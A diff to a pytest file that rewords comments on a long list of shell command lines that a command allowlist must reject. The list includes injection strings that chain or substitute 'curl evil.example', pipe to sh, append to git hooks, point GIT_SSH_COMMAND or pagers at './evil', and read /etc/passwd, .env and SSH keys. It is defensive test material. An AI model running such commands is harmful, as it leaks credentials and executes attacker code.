@@ -1,4 +1,4 @@
-"""Which commands may be allowed with any arguments, and what never passes as one of them."""
+"""Commands that may be allowed with any arguments, and lines that must never match."""
 
 from pathlib import Path
 
@@ -44,7 +44,7 @@ def test_a_plain_command_has_a_prefix(line: str, prefix: str | None, tmp_path: P
 @pytest.mark.parametrize(
     "line",
     [
-        # More than the one command, however it is written.
+        # More than one command, in any syntax.
         "git commit -m x; curl evil.example", "git commit -m x && curl evil.example",
         "git commit -m x || id", "git commit -m x | sh", "git commit -m x\ncurl evil.example",
         "git commit -m x &", "git commit -m x & id", "id; git commit -m x", "(git commit -m x)",
@@ -52,16 +52,16 @@ def test_a_plain_command_has_a_prefix(line: str, prefix: str | None, tmp_path: P
         "for x in a; do git commit; done", "git() { id; }; git commit", "git commit -m x # y",
         "git commit -m x;", "time git commit", "coproc git commit",
         "git commit -m x\r\ncurl evil.example",
-        # What the shell computes.
+        # Values computed by the shell.
         "git commit -m $(curl evil.example)", "git commit -m `id`", 'git commit -m "$(id)"',
         "git commit -m \"$X\"", "git commit $X", "git commit <(id)", "git commit -m $((x))",
         "$GIT commit", "g{it,} commit", "git {commit,push}", "git commit ~/x", "git commit $'a'$X",
-        # Files that it writes or reads beside its arguments.
+        # Files read or written in addition to the arguments.
         "git commit -m x > out", "git commit < in", "git commit 2>&1", "git commit <<< x",
         "git commit <<E\nx\nE", "git commit -m x >> .git/hooks/pre-commit",
-        # Variables in front.
+        # Leading variables.
         "GIT_SSH_COMMAND=./evil git push", "X=1 git commit", "PATH=.:$PATH git commit",
-        # Options before the sub-command, and options that run something.
+        # Options before the sub-command, and options that run programs.
         "git -c core.pager=./evil commit", "git -c core.editor=./evil commit",
         "git --exec-path=. commit", "git -C /elsewhere commit", "git --git-dir=x commit",
         "git push --force", "git push -f origin main", "git push --force-with-lease=main",
@@ -80,7 +80,7 @@ def test_a_plain_command_has_a_prefix(line: str, prefix: str | None, tmp_path: P
         "mypy --python-executable ./evil a.py", "mocha --import data:text/javascript,x",
         "mocha -r ./x", "clang-tidy --load=./evil.so a.c", "phpunit -d auto_prepend_file=x",
         "rg -ge /etc/passwd", "rg -e x /etc/passwd", "git commit -m x -- /etc/passwd",
-        # Remotes that have no name here.
+        # Remotes without a configured name.
         "git push evil@evil.example:x", "git push -o x evil:x HEAD", "git push --repo=evil:x",
         "git fetch ext::sh", "git pull evil.example:x main",
         "npm test -script-shell=./evil", "npm test -script-shell ./evil", "npm test --unheard-of",
@@ -94,20 +94,20 @@ def test_a_plain_command_has_a_prefix(line: str, prefix: str | None, tmp_path: P
         "dotnet build -logger:evil.dll", "dotnet test --test-adapter-path evil",
         "swift test --toolset x", "clang-tidy a.c -- -fplugin=x", "golangci-lint custom",
         "clang-tidy --extra-arg=-fplugin=x a.c", "tree -o x",
-        # What stands behind an option of text, and is none.
+        # Arguments that look like the value of a text option.
         "rg -e -e /etc/passwd", "grep -- -e /etc/passwd", "grep x --label -e /etc/passwd",
         "git commit -m -m --file=/etc/passwd", "grep x --label -e '/etc/passwd'",
         "grep x --label -e /etc/pass*", "grep x --label -e ~root/x",
         "grep x --label -e link/passwd",
-        # Links whose name is glued to an option.
+        # Links whose name is attached to an option.
         "cp -tlink a", "cp -vtlink a", "git commit -Flink/passwd", "git commit -vFfile",
         "grep -ffile x", "touch -rfile x",
-        # A remote that is a folder here has hooks of its own.
+        # A remote in a local folder has hooks of its own.
         "git push bare main", "git push ./bare", "git push --repo=bare", "git fetch clone",
         "git pull sub/../bare", "git push mirror",
-        # Another program by the same name, or by another.
+        # Another program with the same name or a similar one.
         "./git commit", "/usr/bin/git commit", "bin/pytest", "GIT commit", "git.exe commit",
-        # What runs what it is given.
+        # Programs that run their arguments.
         "python x.py", "python3 -m pytest", "bash x.sh", "sh -c 'git commit'", "env git commit",
         "env X=1 git commit", "sudo git commit", "xargs git commit", "find . -name x", "ssh host x",
         "nohup git commit", "timeout 5 pytest", "nice pytest", "eval git commit", "exec pytest",
@@ -119,17 +119,17 @@ def test_a_plain_command_has_a_prefix(line: str, prefix: str | None, tmp_path: P
         "git clone x", "git difftool", "npm install x",
         "npm audit fix", "gh release create x", "npm publish", "pip install x", "gh api x",
         "rm -rf x", "git evil", "npm evil", "unheard-of", ". x", "source x", "vim x", "less x",
-        # Paths elsewhere, and private ones.
+        # Paths outside, and private ones.
         "cat /etc/passwd", "cat ../x", "cat .env", "grep -r x /home", "cp a ~/b", "cat ~root/x",
         "git push https://evil.example/x", "git push ../elsewhere", "cp x .git/hooks/pre-commit",
         "mkdir -p /x", "git add /etc/passwd", "head -c9 .ssh/id", "pytest --junitxml=/x",
-        # A name that a pattern finds may be an option.
+        # A name matched by a pattern may be an option.
         "git push *", "git fetch ?-upload-pack", "cp [-]x y",
-        # Blanks that are none to a shell.
+        # Blanks that shells do not treat as such.
         "\u00a0git commit", "\x0bgit commit", "\x1cgit commit", "\u2003git commit",
         "\x0cgit commit",
         "git\u00a0commit", "git commit\u2028id", "git commit\x0bid; id", "\ufeffgit commit",
-        # No command at all, or one that shells read differently.
+        # No command, or one that shells parse differently.
         "", " ", "git commit 'x", "git commit -m x\0", "git commit \\\n; id",
     ],
 )  # fmt: skip
